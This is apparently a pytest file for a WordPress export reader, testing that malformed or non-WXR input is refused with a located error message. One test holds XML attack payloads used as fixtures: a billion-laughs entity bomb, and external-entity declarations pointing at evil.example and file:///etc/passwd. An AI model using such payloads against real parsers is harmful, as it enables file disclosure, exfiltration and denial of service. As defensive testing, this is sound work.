"""What is no export is refused with a sentence, and where it can be said, with line and column."""

from __future__ import annotations

import re
import socket
import zlib
from contextlib import suppress

import pytest

from portal.content.wordpress.documents import NotWordPress
from portal.content.wordpress.reader import read
from tests.content.wordpress.exports import Item, wxr

GOOD = wxr(Item(1))
BOMB = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)


REFUSED: list[tuple[bytes, str, tuple[int, int] | None]] = [
    (b"", "empty", None),
    (b"  \n ", "empty", None),
    (b"PK\x03\x04rest", "archive", None),
    (b"\x1f\x8b" + zlib.compress(b"x"), "archive", None),
    (b"<!DOCTYPE html><html></html>", "web page", None),
    (b'<?xml version="1.0"?><html><p>x</p></html>', "web page", (1, 1)),
    (b'{"a": 1}', "not XML", (1, 1)),
    (b"\x89PNG\r\n", "not XML", (1, 1)),
    (b"<rss><channel><title>x</title></channel></rss>", "RSS feed", (1, 1)),
    (b"<rss/>", "no wxr_version", (1, 1)),
    (b"<feed xmlns='http://www.w3.org/2005/Atom'/>", "XML, but not", (1, 1)),
    (GOOD.replace(b">1.2<", b">abc<"), "“abc”", (3, 1)),
    (GOOD.replace(b">1.2<", b">2.0<"), "“2.0”", (3, 1)),
    (GOOD.replace(b"</item>", b"</itme>"), "mismatched tag", (22, 0)),
    (GOOD[:600], "ends", (6, 0)),
    (GOOD.replace(b"Title", b"Ti\x08tle"), "character here", (5, 25)),
    (GOOD.replace(b"About", b"&nbsp;"), "&nbsp;", (3, 0)),
    (GOOD.replace(b"Title", b"Ti\xfftle"), "not UTF-8 (0xFF)", (5, 0)),
    (GOOD.replace(b"UTF-8", b"EBCDIC-X"), "encoding", (1, 0)),
    (GOOD.replace(b"UTF-8", b"Shift_JIS"), "encoding", (1, 0)),
    (GOOD.replace(b'xmlns:dc="', b'xmlns:dd="'), "prefix", (8, 0)),
    (GOOD + b"<more/>", "after the end", (0, 0)),
    (GOOD.replace(b"Old", b"<x>" * 60), "nested", (3, 0)),
    (GOOD.decode().encode("utf-16"), "encoding", (1, 0)),
]


@pytest.mark.parametrize(("data", "said", "place"), REFUSED)
def test_refused(data: bytes, said: str, place: tuple[int, int] | None):
    with pytest.raises(NotWordPress) as refusal:
        read(data)
    trouble = refusal.value
    assert said in str(trouble)
    assert re.match(r".*\. \S.*\.$", trouble.message), "what is wrong, then what to do"
    if place is None:
        assert trouble.line is None
        return
    assert trouble.line
    assert trouble.column
    assert str(trouble).startswith(f"Line {trouble.line}, column {trouble.column}: ")
    assert place[0] in (0, trouble.line)
    assert place[1] in (0, trouble.column)


@pytest.mark.parametrize(
    "declaration",
    [
        BOMB,
        '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/"> %a;]>',
        "<!DOCTYPE x>",
    ],
)
def test_declarations_are_refused_before_anything_is_expanded(
    declaration: str, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr(socket, "socket", None)
    data = wxr(Item(1, "&a;"), before=f'<?xml version="1.0"?>\n{declaration}\n')
    with pytest.raises(NotWordPress, match=r"Line 2, .*document type or entities"):
        read(data.replace(b"<![CDATA[&a;]]>", b"&j;"))


def test_too_large_is_refused_by_a_limit_of_the_caller():
    with pytest.raises(NotWordPress, match="1 MiB"):
        read(b"<rss>" + b" " * 2**20, limit=2**20)
    assert read(GOOD, limit=len(GOOD)).posts


def test_a_file_with_no_items_is_an_export():
    export = read(wxr())
    assert [*export.documents, *export.attachments, *export.menus] == []


@pytest.mark.parametrize("part", range(4))
def test_damaged_files_are_refused_or_read_but_never_crash(part: int):
    data = wxr(Item(1, content="<!-- wp:x {} -->[gallery ids=1]<b>"), Item(2))
    for place in range(part, len(data), 4 * 3):
        for damaged in (data[:place], data[:place] + b"\xff<&" + data[place + 1 :]):
            with suppress(NotWordPress):
                read(damaged)
